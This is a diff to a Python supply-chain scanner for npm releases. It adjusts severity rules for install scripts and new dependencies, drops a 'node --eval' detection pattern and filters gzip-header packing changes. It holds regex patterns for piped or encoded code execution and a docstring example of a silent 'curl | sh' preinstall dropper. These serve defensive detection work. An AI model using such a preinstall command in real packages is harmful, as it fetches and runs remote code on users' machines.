@@ -33,7 +33,6 @@ _HIDDEN = re.compile(
 #: run code given inline, decoded or piped to an interpreter
 _INLINE_EXEC = re.compile(
     r"(?<!\|)\|(?!\|)\s*(?:(?:ba|z|da)?sh|node|python3?|perl|ruby|iex)(?![\w-])|"
-    r"\bnode\s+(?:-e|--eval|-p)\b|"
     r"\bpowershell(?:\.exe)?\b.*-e(?:nc(?:odedcommand)?)?\b|\bbase64\s+(?:-d|--decode)\b|"
     r"\beval\b",
     re.IGNORECASE,
@@ -257,7 +256,8 @@ def install_script_downloads_or_hides(release: Release) -> Iterator[Evidence]:
     ## Why is this risky
     Legitimate installers run a file that ships in the package (``node install.js``,
     ``prebuild-install``); fetching and running code straight from the command line, out
-    of sight, is how droppers work.
+    of sight, is how droppers work. *Medium* when the command only hides its output, *low*
+    when it is unchanged since the previous release.
 
     ## Example
     ``"preinstall": "curl -s https://x.example/i.sh | sh > /dev/null 2>&1 &"``
@@ -269,6 +269,11 @@ def install_script_downloads_or_hides(release: Release) -> Iterator[Evidence]:
     commands = [("", s) for s in m.install_scripts] + [
         (f"{b.path} ", s) for b in m.bundled for s in b.scripts
     ]
+    previous = (
+        {(s.event, s.command) for s in release.previous.install_scripts}
+        if (release.previous is not None)
+        else set()
+    )
     for prefix, s in commands:
         traits = [
             name
@@ -282,10 +287,18 @@ def install_script_downloads_or_hides(release: Release) -> Iterator[Evidence]:
         if not traits:
             continue
         fresh = release.diff is not None and not prefix and (s.event, s.command) in new_commands
+        if fresh:
+            sev: Severity | None = Severity.CRITICAL
+        elif not prefix and (s.event, s.command) in previous:
+            sev = Severity.LOW  # long-standing and unchanged (yarn's silenced preinstall)
+        elif traits == ["hides its output"]:
+            sev = Severity.MEDIUM
+        else:
+            sev = None
         yield Evidence(
             f"{prefix}{s.event} {' and '.join(traits)}: {s.command}",
             path="package.json" if not prefix else f"{prefix.strip()}/package.json",
-            severity=Severity.CRITICAL if fresh else None,
+            severity=sev,
         )
 
 
@@ -336,7 +349,8 @@ def dependency_added(release: Release) -> Iterator[Evidence]:
     ## What it does
     Reports names new in ``dependencies``, ``optionalDependencies`` or
     ``peerDependencies``. *High* in a patch release when the new dependency is not from the
-    registry; *low* for the project's own scoped packages (``@esbuild/*`` for esbuild).
+    registry or when code in this release requires it; *low* for the project's own scoped
+    packages (``@esbuild/*`` for esbuild, a scope it already depends on).
 
     ## Why is this risky
     A new dependency is new code from someone else, installed everywhere this package is
@@ -347,17 +361,26 @@ def dependency_added(release: Release) -> Iterator[Evidence]:
     """
     d = _diff(release)
     patch = _patch_release(d)
-    present_before = {(c.name) for c in d.old.dependencies if c.installed_by_consumers}
+    present_before = {c.name for c in d.old.dependencies if c.installed_by_consumers}
+    scopes_before = {n.split("/", 1)[0] for n in present_before if n.startswith("@")}
+    required = {spec for c in d.files if c.text for spec in c.text.added_requires}
     for c in d.dependencies:
         if c.new is None or c.old is not None or c.field in ("devDependencies", "overrides"):
             continue
         if c.name in present_before:
             continue  # moved between fields, not new code
         registry = c.new.source is SourceType.REGISTRY
-        sev = Severity.HIGH if patch and not registry else None
-        if registry and _sibling(d.new.name, c.name):
+        used = any(spec == c.name or spec.startswith(c.name + "/") for spec in required)
+        sev: Severity | None = None
+        if (patch and not registry) or used:
+            sev = Severity.HIGH
+        elif registry and (
+            _sibling(d.new.name, c.name) or c.name.split("/", 1)[0] in scopes_before
+        ):
             sev = Severity.LOW  # the project's own platform packages (@esbuild/*, @img/*)
         where = " in a patch release" if patch else ""
+        if used:
+            where += ", and code in this release now requires it"
         yield Evidence(
             f"new {c.field}.{c.name} = {c.new.raw!r} ({c.new.type}){where}",
             path="package.json",
@@ -515,8 +538,10 @@ def packing_changed(release: Release) -> Iterator[Evidence]:
     Every previous release had gzip OS byte 255 and mtime 1985-10-26; this one has the build
     machine's timestamps and user names.
     """
-    for change in _diff(release).packing:
-        yield Evidence(change)
+    # the gzip header's OS and XFL bytes follow the publisher's Node.js/zlib, not the tool
+    changes = [c for c in _diff(release).packing if not c.startswith("gzip header")]
+    if changes:
+        yield Evidence("packed differently from the previous release: " + "; ".join(changes))
 
 
 @rule(
